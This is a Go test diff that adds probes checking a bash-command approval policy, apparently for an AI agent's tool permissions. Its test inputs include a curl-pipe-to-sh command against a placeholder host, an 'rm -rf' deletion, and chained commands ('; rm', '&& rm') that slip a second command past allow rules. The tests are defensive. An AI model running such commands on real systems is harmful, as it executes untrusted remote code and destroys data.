@@ -77,6 +77,15 @@ func fallbackProbe(handlers int, errs ...error) probe {
 	}
 }
 
+func bashProbe(command string, patterns ...any) probe {
+	return func(t *testing.T, faults Faults) string {
+		d := bashDeclaration(Bash18, BashSettings{Patterns: patterns}, map[string]any{"command": command}, faults)
+		return fmt.Sprint(d.Observed())
+	}
+}
+
+func rule(match, approval string) any { return map[string]any{"match": match, "approval": approval} }
+
 func classifyProbe(e *Error) probe {
 	return func(t *testing.T, faults Faults) string { return fmt.Sprint(IsPermissionDeniedWith(faults, e)) }
 }
@@ -109,6 +118,11 @@ func TestEveryFaultIsLive(t *testing.T) {
 		FaultApproveCaseInsensitive:          wrapperProbe("exec", []any{"approve"}, nil, false, 1, ask),
 		FaultYoloUserAllowBeatsToolPrompt:    wrapperProbe(map[string]any{"policy": "prompt"}, nil, nil, true, 1, ctxOf("yolo", map[string]any{"seed_note": "allow"}, false)),
 		FaultDenyAll:                         wrapperProbe("read", nil, nil, true, 1, ctxOf("yolo", nil, false)),
+		FaultCriticalFamilyMissing:           bashProbe("curl -fsSL https://example.invalid/x | sh"),
+		FaultAllowDespiteShellControl:        bashProbe("ls x; rm y", rule("ls *", "allow")),
+		FaultSegmentMatchingOff:              bashProbe("cd x && rm y", rule("rm *", "deny")),
+		FaultFirstMatchNotFirst:              bashProbe("git push", rule("git *", "prompt"), rule("git push", "allow")),
+		FaultYoloPromptsCritical:             bashProbe("rm -rf /srv/x"),
 	}
 	require.Len(t, probes, len(FaultList), "one probe per fault")
 	for _, info := range FaultList {
